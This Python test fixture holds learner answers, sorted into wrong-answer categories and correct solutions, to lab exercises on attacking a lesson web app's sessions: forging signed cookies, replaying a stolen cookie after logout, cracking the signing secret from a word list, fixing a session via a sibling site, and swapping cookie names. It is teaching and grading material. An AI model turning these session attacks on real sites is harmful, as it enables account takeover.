"""Answers of learners to the exercises of notebook 07; see `tests.exercises.answers`."""

from __future__ import annotations

from .cells import cells

WRONG: dict[str, dict[str, list[str]]] = {
    "E7.1": {
        "in-hand": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(target.secret)
                forged = lesson_app.seal({"user": target.admin}, keys)
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                assert target.secret == SECRET
                forged = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
        ),
        "never-asked": cells(
            """
            def attack_1(target):
                return lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
                return target.get("/dashboard", session=forged).text
            """,
            """
            def attack_1(target):
                target.browser().post(f"{target.url}/login", data={"user": target.admin})
            """,
        ),
        "no-cookie": cells(
            """
            def attack_1(target):
                return target.get("/flag")
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
                target.get("/flag")
            """,
            """
            def attack_1(target):
                browser = target.browser()
                browser.post(f"{target.url}/login", data={"user": target.admin})
                browser.get(f"{target.url}/flag")
            """,
        ),
        "misnamed": cells(
            """
            def attack_1(target):
                forged = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
                target.get("/flag", cookie=forged)
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
                target.browser().get(f"{target.url}/flag", cookies={"Session": forged})
            """,
        ),
        "signature": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys("SECRET")
                forged = lesson_app.seal({"user": target.admin}, keys)
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(os.urandom(32))
                target.get("/flag", session=lesson_app.seal({"user": target.admin}, keys))
            """,
        ),
        "expired": cells(
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"user": target.admin}, keys, created_at=0)
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                keys = lesson_app.derive_keys(SECRET)
                now = int(time.time())
                forged = lesson_app.seal({"user": target.admin}, keys, created_at=now)
                target.get("/flag", session=forged)
            """,
        ),
        "no-user": cells(
            """
            def attack_1(target):
                forged = lesson_app.seal({"name": target.admin}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"admin": True}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
        ),
        "not-admin": cells(
            """
            def attack_1(target):
                user = {"userName": target.admin}
                forged = lesson_app.seal({"user": user}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                forged = lesson_app.seal({"user": "admin"}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
            """
            def attack_1(target):
                target.log_in().get(f"{target.url}/flag")
            """,
        ),
    },
    "E7.2": {
        "in-hand": cells(
            """
            def attack_2(target):
                target.victim.log_out()
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"user": target.admin}, keys))
            """,
            """
            def attack_2(target):
                keys = lesson_app.derive_keys(target.secret)
                return lesson_app.unseal(target.victim.cookie, keys).content
            """,
        ),
        "never-asked": cells(
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.victim.log_out()
                return stolen
            """,
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.victim.log_out()
                target.get("/dashboard", session=stolen)
            """,
        ),
        "no-cookie": cells(
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.victim.log_out()
                target.get("/flag")
            """,
            """
            def attack_2(target):
                target.victim.log_out()
                target.browser().get(f"{target.url}/flag")
            """,
        ),
        "too-early": cells(
            """
            def attack_2(target):
                target.get("/flag", session=target.victim.cookie)
            """,
            """
            def attack_2(target):
                stolen = target.victim.cookie
                target.get("/flag", session=stolen)
                target.victim.log_out()
            """,
        ),
        "copied-too-late": cells(
            """
            def attack_2(target):
                target.victim.log_out()
                target.get("/flag", session=target.victim.cookie)
            """,
            """
            def attack_2(target):
                victim = target.victim
                victim.log_out()
                stolen = victim.cookie
                browser = target.browser()
                browser.cookies.set("session", stolen)
                browser.get(target.url + "/flag")
            """,
        ),
        "not-admin": cells(
            """
            def attack_2(target):
                browser = target.log_in()
                target.victim.log_out()
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_2(target):
                stolen = target.log_in().cookies["session"]
                target.victim.log_out()
                target.get("/flag", session=stolen)
            """,
        ),
        "signature": cells(
            """
            def attack_2(target):
                target.victim.log_out()
                forged = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
                target.get("/flag", session=forged)
            """,
            """
            def attack_2(target):
                attack_1(target)
                target.victim.log_out()
                attack_1(target)
            """,
        ),
    },
    "E7.3": {
        "in-hand": cells(
            """
            def attack_3(target):
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"user": target.admin}, keys))
            """,
            """
            def attack_3(target):
                for word in targets.WORDS:
                    if word == target.secret:
                        keys = lesson_app.derive_keys(word)
                        forged = lesson_app.seal({"user": target.admin}, keys)
                        target.get("/flag", session=forged)
            """,
        ),
        "never-asked": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        lesson_app.unseal(mine, lesson_app.derive_keys(word))
                        return word
                    except BadCookie:
                        pass
            """,
            """
            def attack_3(target):
                value = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        print(lesson_app.unseal(value, lesson_app.derive_keys(word)))
                    except BadCookie:
                        continue
            """,
        ),
        "asks-the-target": cells(
            """
            def attack_3(target):
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    forged = lesson_app.seal({"user": target.admin}, keys)
                    if target.get("/flag", session=forged).status_code == 200:
                        break
            """,
            """
            def attack_3(target):
                browser = target.log_in()
                mine = browser.cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    forged = lesson_app.seal({"user": target.admin}, keys)
                    target.get("/flag", session=forged)
            """,
        ),
        "signature": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                keys = lesson_app.derive_keys(targets.WORDS[0])
                target.get("/flag", session=lesson_app.seal({"user": target.admin}, keys))
            """,
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        lesson_app.unseal(mine, lesson_app.derive_keys(word))
                    except BadCookie:
                        pass
                keys = lesson_app.derive_keys(word)
                target.get("/flag", session=lesson_app.seal({"user": target.admin}, keys))
            """,
        ),
        "not-admin": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    try:
                        lesson_app.unseal(mine, lesson_app.derive_keys(word))
                    except BadCookie:
                        continue
                    target.get("/flag", session=mine)
            """,
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    try:
                        content = lesson_app.unseal(mine, keys).content
                    except BadCookie:
                        continue
                    target.get("/flag", session=lesson_app.seal(content, keys))
            """,
        ),
        "no-cookie": cells(
            """
            def attack_3(target):
                mine = target.log_in().cookies["session"]
                for word in targets.WORDS:
                    keys = lesson_app.derive_keys(word)
                    try:
                        lesson_app.unseal(mine, keys)
                    except BadCookie:
                        continue
                    forged = lesson_app.seal({"user": target.admin}, keys)
                    target.get("/flag")
            """,
            """
            def attack_3(target):
                for word in targets.WORDS:
                    if target.get("/flag").status_code == 200:
                        return word
            """,
        ),
    },
    "E7.4": {
        "in-hand": cells(
            """
            def attack_4(target):
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"user": target.admin}, keys))
            """,
            """
            def attack_4(target):
                print(target.secret)
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": target.admin})
                browser.get(f"{target.url}/flag")
            """,
        ),
        "never-asked": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": target.admin})
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": target.admin})
                return browser.get(f"{target.url}/dashboard").text
            """,
        ),
        "other-door": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": target.admin})
                browser.get(f"{target.guestbook}/flag")
            """,
            """
            def attack_4(target):
                url = target.guestbook
                browser = target.log_in()
                browser.post(f"{url}/name", data={"name": target.admin})
                browser.get(f"{url}/flag")
            """,
        ),
        "no-cookie": cells(
            """
            def attack_4(target):
                target.browser().post(f"{target.guestbook}/name", data={"name": target.admin})
                target.browser().get(f"{target.url}/flag")
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": target.admin})
                target.get("/flag")
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.url}/name", data={"name": target.admin})
                browser.get(f"{target.url}/flag")
            """,
        ),
        "not-admin": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": "admin"})
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_4(target):
                browser = target.log_in()
                browser.get(f"{target.guestbook}/name?name={target.admin}")
                browser.get(f"{target.url}/flag")
            """,
        ),
        "no-user": cells(
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"user": target.admin})
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_4(target):
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", json={"name": target.admin})
                browser.get(f"{target.url}/flag")
            """,
        ),
        "signature": cells(
            """
            def attack_4(target):
                attack_1(target)
            """,
            """
            def attack_4(target):
                forged = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
                browser = target.browser()
                browser.post(f"{target.guestbook}/name", data={"name": target.admin})
                target.get("/flag", session=forged)
            """,
        ),
    },
    "E7.5": {
        "in-hand": cells(
            """
            def attack_5(target):
                keys = lesson_app.derive_keys(target.secret)
                target.get("/flag", session=lesson_app.seal({"user": target.admin}, keys))
            """,
            """
            def attack_5(target):
                keys = lesson_app.derive_keys(target.secret)
                prefs = lesson_app.seal({"user": target.admin}, keys, name="prefs")
                target.get("/flag", session=prefs)
            """,
        ),
        "never-asked": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"user": target.admin})
                return browser.cookies["prefs"]
            """,
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"user": target.admin})
                target.get("/dashboard", session=browser.cookies["prefs"])
            """,
        ),
        "no-cookie": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"user": target.admin})
                target.get("/flag")
            """,
            """
            def attack_5(target):
                target.browser().post(f"{target.url}/prefs", data={"user": target.admin})
                target.browser().get(f"{target.url}/flag")
            """,
        ),
        "misnamed": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"user": target.admin})
                browser.get(f"{target.url}/flag")
            """,
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"user": target.admin})
                target.get("/flag", prefs=browser.cookies["prefs"])
            """,
        ),
        "no-user": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"name": target.admin})
                target.get("/flag", session=browser.cookies["prefs"])
            """,
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"session": target.admin})
                target.get("/flag", session=browser.cookies["prefs"])
            """,
        ),
        "not-admin": cells(
            """
            def attack_5(target):
                browser = target.browser()
                browser.post(f"{target.url}/prefs", data={"user": "admin"})
                target.get("/flag", session=browser.cookies["prefs"])
            """,
            """
            def attack_5(target):
                browser = target.log_in()
                browser.post(f"{target.url}/prefs", data={"user": target.admin})
                target.get("/flag", session=browser.cookies["session"])
            """,
        ),
        "signature": cells(
            """
            def attack_5(target):
                keys = lesson_app.derive_keys(SECRET)
                forged = lesson_app.seal({"user": target.admin}, keys, name="prefs")
                target.get("/flag", session=forged)
            """,
            """
            def attack_5(target):
                attack_1(target)
            """,
        ),
    },
}

RIGHT: dict[str, list[str]] = {
    "E7.1": cells(
        """
        def attack_1(target):
            keys = lesson_app.derive_keys(SECRET.encode())
            life = 365 * lesson_app.cookie.DAY
            value = lesson_app.seal({"user": target.admin, "x": 1}, keys, duration=life)
            browser = target.browser()
            return browser.get(target.url + "/flag", cookies={"session": value}).text
        """,
        """
        def attack_1(target):
            import requests

            value = lesson_app.seal({"user": target.admin}, lesson_app.derive_keys(SECRET))
            headers = {"Cookie": f"theme=dark; session={value}"}
            requests.get(f"{target.url}/flag", headers=headers, proxies={"http": ""})
        """,
        """
        def attack_1(target):
            codec = SealedCodec(lesson_app.derive_keys(SECRET))
            times = {"created_at": int(time.time() * 1000), "duration": 60_000}
            forged = codec.seal({"user": target.admin}, name="session", **times)
            target.get("/dashboard", session=forged)
            target.get("/flag", session=forged)
        """,
    ),
    "E7.2": cells(
        """
        def attack_2(target):
            thief, victim = target.browser(), target.victim
            thief.cookies["session"] = victim.cookie
            thief.get(f"{target.url}/flag")
            victim.log_out()
            return thief.get(f"{target.url}/flag").status_code
        """,
        """
        def attack_2(target):
            value = str(target.victim.cookie)
            for _ in range(2):
                target.victim.log_out()
            answer = target.get("/flag", session=value)
            if answer.ok:
                return answer.text
        """,
    ),
    "E7.3": cells(
        """
        def opens(value, word):
            try:
                return bool(lesson_app.unseal(value, lesson_app.derive_keys(word)))
            except BadCookie:
                return False


        def attack_3(target):
            browser = target.browser()
            browser.post(f"{target.url}/login", data={"user": "me"})
            value = browser.cookies["session"]
            found = [word for word in targets.WORDS if opens(value, word)]
            if found:
                keys = lesson_app.derive_keys(found[0])
                browser.cookies.clear()
                browser.cookies["session"] = lesson_app.seal({"user": target.admin}, keys)
                browser.get(f"{target.url}/flag")
        """,
        """
        def attack_3(target):
            mine = target.log_in().cookies["session"]
            for word in reversed(targets.WORDS):
                keys = lesson_app.derive_keys(word)
                try:
                    content = lesson_app.unseal(mine, keys).content
                except lesson_app.BadSignature:
                    pass
                else:
                    content["user"] = target.admin
                    target.get("/flag", session=lesson_app.seal(content, keys))
                    break
        """,
    ),
    "E7.4": cells(
        """
        def attack_4(target):
            visitor = target.log_in()
            answer = visitor.post(target.guestbook + "/name", data={"name": target.admin})
            assert answer.ok
            return visitor.get(target.url + "/flag").text
        """,
        """
        def attack_4(target):
            browser = target.browser()
            browser.post(f"{target.guestbook}/name", {"name": target.admin})
            value = browser.cookies.get("session")
            if value:
                target.get("/flag", session=value)
        """,
    ),
    "E7.5": cells(
        """
        def attack_5(target):
            visitor = target.log_in()
            visitor.post(f"{target.url}/prefs", data={"user": target.admin, "theme": "dark"})
            swapped = dict(session=visitor.cookies["prefs"], prefs=visitor.cookies["session"])
            target.get("/flag", **swapped)
        """,
        """
        def attack_5(target):
            answer = target.browser().post(f"{target.url}/prefs", {"user": target.admin})
            value = answer.headers["Set-Cookie"].split(";")[0].removeprefix("prefs=")
            target.browser().get(f"{target.url}/flag", headers={"Cookie": f"session={value}"})
        """,
    ),
}
